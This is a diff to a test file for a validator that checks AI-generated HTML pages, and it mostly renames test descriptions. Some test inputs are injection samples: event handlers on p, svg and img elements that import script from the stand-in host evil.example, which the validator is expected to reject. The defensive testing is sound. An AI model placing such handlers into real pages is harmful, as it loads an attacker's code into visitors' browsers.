@@ -8,7 +8,7 @@ const faultOf = (text: string) => documentFault(text, HOSTS);
 const inBody = (body: string) => faultOf(goodPage('T', body));
 const inHead = (head: string) => faultOf(goodPage('T', '<p>x</p>', head));
 
-describe('A generated page is accepted', () => {
+describe('Accepted pages', () => {
   it.each([
     ['that is whole', goodPage()],
     ['with its own scripts', goodPage('T', '<script>document.title = "a < b";</script><p onclick="x()">x</p>')],
@@ -31,10 +31,10 @@ describe('A generated page is accepted', () => {
       'with another policy of its own',
       goodPage('T', '<p>x</p>', '<meta http-equiv="content-security-policy" content="x">'),
     ],
-  ])('a page %s', (_, page) => expect(faultOf(page)).toBeNull());
+  ])('a generated page %s is accepted', (_, page) => expect(faultOf(page)).toBeNull());
 });
 
-describe('A generated page is rejected', () => {
+describe('Rejected pages', () => {
   it.each([
     ['words', 'I am sorry, but I cannot help with that.', 'refused', 'with text instead of a page'],
     ['nothing', '', 'refused', 'with text instead of a page'],
@@ -59,13 +59,13 @@ describe('A generated page is rejected', () => {
     ['a NUL', goodPage('T', '<p>\0</p>'), 'incomplete', 'not valid HTML'],
     ['too much', goodPage('T', `<p>${'x'.repeat(524_288)}</p>`), 'incomplete', '512 KiB'],
     ['too deep', goodPage('T', '<b>'.repeat(300) + '</b>'.repeat(300)), 'incomplete', 'deep'],
-  ])('because of %s', (_, text, kind, why) => {
+  ])('a response with %s is rejected', (_, text, kind, why) => {
     const fault = faultOf(text);
     expect(fault?.kind).toBe(kind);
     expect(fault?.detail).toContain(why);
   });
 
-  it('a page that is cut off anywhere', () => {
+  it('a page that is cut off anywhere is rejected', () => {
     const page = goodPage(
       'T',
       '<main><h1>x</h1><ul><li>a</li></ul><script>let a = "</b>";</script><!-- c --></main>',
@@ -141,14 +141,14 @@ describe('A generated page is rejected', () => {
     `<p onclick="import('https://evil.example/x.js')">x</p>`,
     `<svg onload="import('//evil.example/x.js')"></svg>`,
     `<img alt="" src="/x.png" onerror="import(&quot;https://evil.example/x.js&quot;)">`,
-  ])('a page with %j', (markup) => {
+  ])('a page with %j is rejected', (markup) => {
     expect(inBody(`<p>x</p>${markup}`)?.kind).toBe('incomplete');
     if (/^<(?:base|meta|link|style|noscript|script|template)/i.test(markup))
       expect(inHead(markup)?.kind).toBe('incomplete');
   });
 
   it.each(['<section><p>x</p>', '<p>x</p><div class="', '<table><tr><td><b>x</td></tr></table>', '<svg><g></svg>'])(
-    'a page with %j left open',
+    'a page with %j left open is rejected',
     (body) => expect(inBody(body)?.kind).toBe('incomplete'),
   );
 });
@@ -164,7 +164,7 @@ describe('Unwrapping a model’s output', () => {
     ['from a fence that only ends', `${page}\n\`\`\``],
     ['from a thought', `<think>The user wants <b>a page</b>.</think>\n\n${page}`],
     ['from a thought and a fence', `<think>x</think>\`\`\`html\n${page}\n\`\`\``],
-  ])('returns the page %s', (_, answer) => expect(unwrapped(answer)).toBe(page));
+  ])('the page is returned %s', (_, answer) => expect(unwrapped(answer)).toBe(page));
 
   it.each([
     ['two fences', `\`\`\`html\n${page}\n\`\`\`\nor\n\`\`\`html\n${page}\n\`\`\``],
@@ -172,5 +172,7 @@ describe('Unwrapping a model’s output', () => {
     ['a thought without an end', `<think>${page}`],
     ['markup outside of the fence', `<p>x</p>\n\`\`\`html\n${page}\n\`\`\``],
     ['a fence around words', '```\nI cannot.\n```'],
-  ])('returns no acceptable page from %s', (_, answer) => expect(faultOf(unwrapped(answer))).not.toBeNull());
+  ])('a response with %s contains no acceptable page', (_, answer) =>
+    expect(faultOf(unwrapped(answer))).not.toBeNull(),
+  );
 });
